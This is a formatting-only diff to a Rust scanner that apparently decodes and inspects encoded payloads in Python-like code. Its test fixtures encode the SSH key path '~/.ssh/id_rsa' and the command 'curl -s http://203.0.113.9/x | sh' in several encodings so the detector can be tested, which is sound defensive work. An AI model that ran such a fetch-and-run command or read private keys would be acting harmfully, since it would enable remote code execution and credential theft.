@@ -935,7 +935,9 @@ impl Interp<'_, '_> {
                 }
                 out
             }
-            Some(Role::Base64 | Role::Hex) => decode(role.unwrap_or(Role::Base64), &subject(), carried.secrets),
+            Some(Role::Base64 | Role::Hex) => {
+                decode(role.unwrap_or(Role::Base64), &subject(), carried.secrets)
+            }
             Some(Role::Import) => match first.and_then(|f| f.texts.first()) {
                 Some(module) => Value::named(
                     module
@@ -1243,7 +1245,10 @@ mod tests {
     fn call(name: &str, args: Vec<Expr>) -> Expr {
         Expr::Call {
             callee: Box::new(Expr::Var(name.into())),
-            args: args.into_iter().map(|value| Arg { key: None, value }).collect(),
+            args: args
+                .into_iter()
+                .map(|value| Arg { key: None, value })
+                .collect(),
             at: 0,
         }
     }
@@ -1295,7 +1300,10 @@ mod tests {
                     vars,
                     iter: Expr::Build(vec![(
                         None,
-                        call("base64.b64decode", vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())]),
+                        call(
+                            "base64.b64decode",
+                            vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())],
+                        ),
                     )]),
                     body,
                 },
@@ -1318,9 +1326,18 @@ mod tests {
     fn base32_and_base85_payloads_are_decoded_and_scanned() {
         // "curl -s http://203.0.113.9/x | sh" in three encodings, each decoded at run time.
         let cases = [
-            ("base64.b32decode", "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOHEXXQID4EBZWQ==="),
-            ("base64.b85decode", "V|8+DAT4tsXmoUNIxjCWFf%SNE-^7PE;%oFAbcQmXa"),
-            ("base64.a85decode", "@s)g.+>%XWBQS?83\\N-A0Jb=8/ho(:/ibS0+FG;QBE"),
+            (
+                "base64.b32decode",
+                "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOHEXXQID4EBZWQ===",
+            ),
+            (
+                "base64.b85decode",
+                "V|8+DAT4tsXmoUNIxjCWFf%SNE-^7PE;%oFAbcQmXa",
+            ),
+            (
+                "base64.a85decode",
+                "@s)g.+>%XWBQS?83\\N-A0Jb=8/ho(:/ibS0+FG;QBE",
+            ),
         ];
         for (decoder, blob) in cases {
             let body = vec![Stmt::Eval(call(
